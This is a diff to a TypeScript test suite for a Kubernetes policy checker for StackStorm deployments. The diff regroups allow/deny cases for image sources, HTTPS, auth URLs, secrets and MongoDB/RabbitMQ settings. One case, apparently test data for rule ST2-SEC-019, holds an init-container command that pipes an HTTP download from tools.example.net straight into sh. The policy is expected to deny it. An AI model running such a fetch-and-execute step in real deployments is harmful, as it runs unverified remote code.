-    { name: 'an st2api cpu limit of 1m warns in staging', rule: 'ST2-OPS-048', environment: 'staging', resources: () => haWorkload('st2api', 2, { container: { resources: { limits: { cpu: '1m', memory: '512Mi' } } } }), expected: warn('ST2-OPS-048', { message: 'resource=cpu' }) },
-    { name: "st2api on StackStorm's dev build in production is denied", rule: 'ST2-HRD-015', environment: 'production', resources: () => api('3.9dev'), expected: deny('ST2-HRD-015', { field: 'spec.template.spec.containers.0.image' }) },
-    { name: 'st2api on a release tag is allowed', rule: 'ST2-HRD-015', environment: 'production', resources: () => api('3.8.1'), expected: 'allowed' },
-    { name: 'the garbage collector on 3.7 beside st2api on 3.8 is denied', rule: 'ST2-HRD-016', environment: 'production', resources: () => [...api('3.8.1'), ...runner('3.7.1')], expected: deny('ST2-HRD-016', { message: 'release=3.7' }) },
-    { name: 'the garbage collector on the previous patch release of 3.8 is allowed', rule: 'ST2-HRD-016', environment: 'production', resources: () => [...api('3.8.1'), ...runner('3.8.0')], expected: 'allowed' },
-    { name: "st2api from someone's Docker Hub namespace is denied", rule: 'ST2-HRD-017', environment: 'production', resources: () => haWorkload('st2api', 2, { container: { image: 'jdoe/st2api:3.8.1' } }), expected: deny('ST2-HRD-017', { field: 'spec.template.spec.containers.0.image' }) },
-    { name: "st2api from StackStorm's namespace on docker.io is allowed", rule: 'ST2-HRD-017', environment: 'production', resources: () => haWorkload('st2api', 2, { container: { image: 'docker.io/stackstorm/st2api:3.8.1' } }), expected: 'allowed' },
-    { name: 'st2web with ST2WEB_HTTPS=0 in production is denied', rule: 'ST2-HRD-018', environment: 'production', resources: () => haWorkload('st2web', 2, { container: { env: [{ name: 'ST2WEB_HTTPS', value: '0' }] } }), expected: deny('ST2-HRD-018', { message: 'variable=ST2WEB_HTTPS' }) },
-    { name: 'st2web with ST2WEB_HTTPS=1 is allowed', rule: 'ST2-HRD-018', environment: 'production', resources: () => haWorkload('st2web', 2, { container: { env: [{ name: 'ST2WEB_HTTPS', value: '1' }] } }), expected: 'allowed' },
-    { name: "st2web's auth URL at st2api is denied", rule: 'ST2-OPS-049', environment: 'production', resources: () => [...haWorkload('st2web', 2, { container: { env: [{ name: 'ST2_AUTH_URL', value: 'http://st2api:9101/' }] } }), service('st2api', 'st2api'), ...haWorkload('st2api', 2)], expected: deny('ST2-OPS-049', { message: 'variable=ST2_AUTH_URL' }) },
-    { name: "st2web's auth URL at st2auth (the Service's port) is allowed", rule: 'ST2-OPS-049', environment: 'production', resources: () => [...haWorkload('st2web', 2, { container: { env: [{ name: 'ST2_AUTH_URL', value: 'http://st2auth/' }] } }), service('st2auth', 'st2auth'), ...haWorkload('st2auth', 2)], expected: 'allowed' },
-    { name: "st2web's auth URL on a port st2auth's Service lacks is denied", rule: 'ST2-OPS-049', environment: 'production', resources: () => [...haWorkload('st2web', 2, { container: { env: [{ name: 'ST2_AUTH_URL', value: 'http://st2auth:9100/' }] } }), service('st2auth', 'st2auth'), ...haWorkload('st2auth', 2)], expected: deny('ST2-OPS-049', { message: 'port=9100' }) },
+    ...rows('ST2-OPS-048', [
+      ['production', 'a 64 MiB MongoDB is denied', () => mongo('64Mi'), deny('ST2-OPS-048', { field: 'spec.template.spec.containers.0.resources.limits.memory', message: 'resource=memory' })],
+      ['production', 'a 1 GiB MongoDB is allowed', () => mongo('1Gi'), 'allowed'],
+      ['staging', 'an st2api cpu limit of 1m warns in staging', () => haWorkload('st2api', 2, { container: { resources: { limits: { cpu: '1m', memory: '512Mi' } } } }), warn('ST2-OPS-048', { message: 'resource=cpu' })],
+    ]),
+    ...rows('ST2-HRD-015', [
+      ['production', "st2api on StackStorm's dev build in production is denied", () => api('3.9dev'), deny('ST2-HRD-015', { field: 'spec.template.spec.containers.0.image' })],
+      ['production', 'st2api on a release tag is allowed', () => api('3.8.1'), 'allowed'],
+    ]),
+    ...rows('ST2-HRD-016', [
+      ['production', 'the garbage collector on 3.7 beside st2api on 3.8 is denied', () => [...api('3.8.1'), ...runner('3.7.1')], deny('ST2-HRD-016', { message: 'release=3.7' })],
+      ['production', 'the garbage collector on the previous patch release of 3.8 is allowed', () => [...api('3.8.1'), ...runner('3.8.0')], 'allowed'],
+    ]),
+    ...rows('ST2-HRD-017', [
+      ['production', "st2api from someone's Docker Hub namespace is denied", () => haWorkload('st2api', 2, { container: { image: 'jdoe/st2api:3.8.1' } }), deny('ST2-HRD-017', { field: 'spec.template.spec.containers.0.image' })],
+      ['production', "st2api from StackStorm's namespace on docker.io is allowed", () => haWorkload('st2api', 2, { container: { image: 'docker.io/stackstorm/st2api:3.8.1' } }), 'allowed'],
+    ]),
+    ...rows('ST2-HRD-018', [
+      ['production', 'st2web with ST2WEB_HTTPS=0 in production is denied', () => haWorkload('st2web', 2, { container: { env: [{ name: 'ST2WEB_HTTPS', value: '0' }] } }), deny('ST2-HRD-018', { message: 'variable=ST2WEB_HTTPS' })],
+      ['production', 'st2web with ST2WEB_HTTPS=1 is allowed', () => haWorkload('st2web', 2, { container: { env: [{ name: 'ST2WEB_HTTPS', value: '1' }] } }), 'allowed'],
+    ]),
+    ...rows('ST2-OPS-049', [
+      ['production', "st2web's auth URL at st2api is denied", () => [...haWorkload('st2web', 2, { container: { env: [{ name: 'ST2_AUTH_URL', value: 'http://st2api:9101/' }] } }), service('st2api', 'st2api'), ...haWorkload('st2api', 2)], deny('ST2-OPS-049', { message: 'variable=ST2_AUTH_URL' })],
+      ['production', "st2web's auth URL at st2auth (the Service's port) is allowed", () => [...haWorkload('st2web', 2, { container: { env: [{ name: 'ST2_AUTH_URL', value: 'http://st2auth/' }] } }), service('st2auth', 'st2auth'), ...haWorkload('st2auth', 2)], 'allowed'],
+      ['production', "st2web's auth URL on a port st2auth's Service lacks is denied", () => [...haWorkload('st2web', 2, { container: { env: [{ name: 'ST2_AUTH_URL', value: 'http://st2auth:9100/' }] } }), service('st2auth', 'st2auth'), ...haWorkload('st2auth', 2)], deny('ST2-OPS-049', { message: 'port=9100' })],
+    ]),
     {
       name: 'an ExternalSecret finding every key of its store is denied',
       rule: 'ST2-SEC-018',
@@ -2682,23 +1655,15 @@ function holesCases(): RuleCase[] {
       resources: () => [externalSecret({ dataFrom: [{ find: { name: { regexp: '.*' } } }] })],
       expected: deny('ST2-SEC-018', { field: 'spec.dataFrom.0.find' }),
     },
-    { name: "st2's MongoDB password rotated without the store's is denied", rule: 'ST2-SEC-020', environment: 'production', resources: () => rotation('password-2026'), expected: deny('ST2-SEC-020', { field: 'spec.data.1', message: 'store=mongodb' }) },
-    { name: "st2's MongoDB password read from the store's own value is allowed", rule: 'ST2-SEC-020', environment: 'production', resources: () => rotation('password'), expected: 'allowed' },
+    ...rows('ST2-SEC-020', [
+      ['production', "st2's MongoDB password rotated without the store's is denied", () => rotation('password-2026'), deny('ST2-SEC-020', { field: 'spec.data.1', message: 'store=mongodb' })],
+      ['production', "st2's MongoDB password read from the store's own value is allowed", () => rotation('password'), 'allowed'],
+    ]),
     { name: 'an ExternalSecret finding keys under a path is allowed', rule: 'ST2-SEC-018', environment: 'production', resources: () => [externalSecret({ dataFrom: [{ find: { path: 'stackstorm/packs' } }] })], expected: 'allowed' },
-    {
-      name: 'an init container piping an http download into sh is denied',
-      rule: 'ST2-SEC-019',
-      environment: 'production',
-      resources: () => haWorkload('st2api', 2, { pod: { initContainers: [{ name: 'boot', image: 'curlimages/curl:8.10.1', command: ['sh', '-c', 'curl -fsSL http://tools.example.net/boot.sh | sh'], resources: { limits: { cpu: '100m', memory: '64Mi' } } }] } }),
-      expected: deny('ST2-SEC-019', { message: 'host=tools.example.net' }),
-    },
-    {
-      name: 'an init container fetching a config file over http is allowed',
-      rule: 'ST2-SEC-019',
-      environment: 'production',
-      resources: () => haWorkload('st2api', 2, { pod: { initContainers: [{ name: 'boot', image: 'curlimages/curl:8.10.1', command: ['sh', '-c', 'curl -fsS http://config.example.net/st2.conf -o /tmp/st2.conf'], resources: { limits: { cpu: '100m', memory: '64Mi' } } }] } }),
-      expected: 'allowed',
-    },
+    ...rows('ST2-SEC-019', [
+      ['production', 'an init container piping an http download into sh is denied', () => haWorkload('st2api', 2, { pod: { initContainers: [{ name: 'boot', image: 'curlimages/curl:8.10.1', command: ['sh', '-c', 'curl -fsSL http://tools.example.net/boot.sh | sh'], resources: { limits: { cpu: '100m', memory: '64Mi' } } }] } }), deny('ST2-SEC-019', { message: 'host=tools.example.net' })],
+      ['production', 'an init container fetching a config file over http is allowed', () => haWorkload('st2api', 2, { pod: { initContainers: [{ name: 'boot', image: 'curlimages/curl:8.10.1', command: ['sh', '-c', 'curl -fsS http://config.example.net/st2.conf -o /tmp/st2.conf'], resources: { limits: { cpu: '100m', memory: '64Mi' } } }] } }), 'allowed'],
+    ]),
   ];
 }
 
@@ -2713,12 +1678,18 @@ function storeFormationCases(): RuleCase[] {
     { apiVersion: 'scheduling.k8s.io/v1', kind: 'PriorityClass', metadata: { name: 'stores' }, value },
   ];
   return [
-    { name: 'two members of priority 0 leave no primary without the first', rule: 'ST2-REP-026', environment: 'production', resources: () => initiated(`${hosts[0]} }, ${hosts[1]}, priority: 0 }, ${hosts[2]}, priority: 0 }`), expected: deny('ST2-REP-026') },
-    { name: 'one member of priority 0 keeps failover', rule: 'ST2-REP-026', environment: 'production', resources: () => initiated(`${hosts[0]} }, ${hosts[1]} }, ${hosts[2]}, priority: 0 }`), expected: 'allowed' },
-    { name: 'RabbitMQ liveness of 3 s kills a booting node', rule: 'ST2-OPS-055', environment: 'production', resources: () => rabbitProbe({ ...status, initialDelaySeconds: 1, periodSeconds: 2, failureThreshold: 1 }), expected: deny('ST2-OPS-055') },
-    { name: 'RabbitMQ liveness behind a startup probe is allowed', rule: 'ST2-OPS-055', environment: 'production', resources: () => rabbitProbe({ ...status, initialDelaySeconds: 1 }, { startupProbe: { ...status, failureThreshold: 30 } }), expected: 'allowed' },
-    { name: 'MongoDB on a negative priority is denied', rule: 'ST2-OPS-056', environment: 'production', resources: () => priority(-10), expected: deny('ST2-OPS-056') },
-    { name: 'MongoDB on priority 0 is allowed', rule: 'ST2-OPS-056', environment: 'production', resources: () => priority(0), expected: 'allowed' },
+    ...rows('ST2-REP-026', [
+      ['production', 'two members of priority 0 leave no primary without the first', () => initiated(`${hosts[0]} }, ${hosts[1]}, priority: 0 }, ${hosts[2]}, priority: 0 }`), deny('ST2-REP-026')],
+      ['production', 'one member of priority 0 keeps failover', () => initiated(`${hosts[0]} }, ${hosts[1]} }, ${hosts[2]}, priority: 0 }`), 'allowed'],
+    ]),
+    ...rows('ST2-OPS-055', [
+      ['production', 'RabbitMQ liveness of 3 s kills a booting node', () => rabbitProbe({ ...status, initialDelaySeconds: 1, periodSeconds: 2, failureThreshold: 1 }), deny('ST2-OPS-055')],
+      ['production', 'RabbitMQ liveness behind a startup probe is allowed', () => rabbitProbe({ ...status, initialDelaySeconds: 1 }, { startupProbe: { ...status, failureThreshold: 30 } }), 'allowed'],
+    ]),
+    ...rows('ST2-OPS-056', [
+      ['production', 'MongoDB on a negative priority is denied', () => priority(-10), deny('ST2-OPS-056')],
+      ['production', 'MongoDB on priority 0 is allowed', () => priority(0), 'allowed'],
+    ]),
   ];
 }
 
@@ -2727,9 +1698,13 @@ function storeStartupCases(): RuleCase[] {
   const mongod = (args: string[], pod: Manifest = {}): Manifest[] => haWorkload('mongodb', 3, { kind: 'StatefulSet', container: { image: 'mongo:4.4.29', args: ['--replSet', 'rs0', '--keyFile', '/k/key.txt', ...args] }, pod });
   const preferred = { podAntiAffinity: { preferredDuringSchedulingIgnoredDuringExecution: [{ weight: 100, podAffinityTerm: { topologyKey: 'kubernetes.io/hostname', labelSelector: { matchLabels: { app: 'mongodb' } } } }] } };
   return [
-    { name: 'mongod given --replSet twice exits', rule: 'ST2-REP-016', environment: 'production', resources: () => mongod(['--replSet', 'rs0']), expected: deny('ST2-REP-016') },
-    { name: 'mongod with two --setParameter starts', rule: 'ST2-REP-016', environment: 'production', resources: () => mongod(['--setParameter', 'diagnosticDataCollectionEnabled=false', '--setParameter', 'cursorTimeoutMillis=600000']), expected: 'allowed' },
-    { name: 'a quorum store whose anti-affinity is only preferred is denied in production', rule: 'ST2-OPS-045', environment: 'production', resources: () => mongod([], { affinity: preferred }), expected: deny('ST2-OPS-045') },
-    { name: 'a quorum store required one member per node is allowed', rule: 'ST2-OPS-045', environment: 'production', resources: () => mongod([]), expected: 'allowed' },
+    ...rows('ST2-REP-016', [
+      ['production', 'mongod given --replSet twice exits', () => mongod(['--replSet', 'rs0']), deny('ST2-REP-016')],
+      ['production', 'mongod with two --setParameter starts', () => mongod(['--setParameter', 'diagnosticDataCollectionEnabled=false', '--setParameter', 'cursorTimeoutMillis=600000']), 'allowed'],
+    ]),
+    ...rows('ST2-OPS-045', [
+      ['production', 'a quorum store whose anti-affinity is only preferred is denied in production', () => mongod([], { affinity: preferred }), deny('ST2-OPS-045')],
+      ['production', 'a quorum store required one member per node is allowed', () => mongod([]), 'allowed'],
+    ]),
   ];
 }
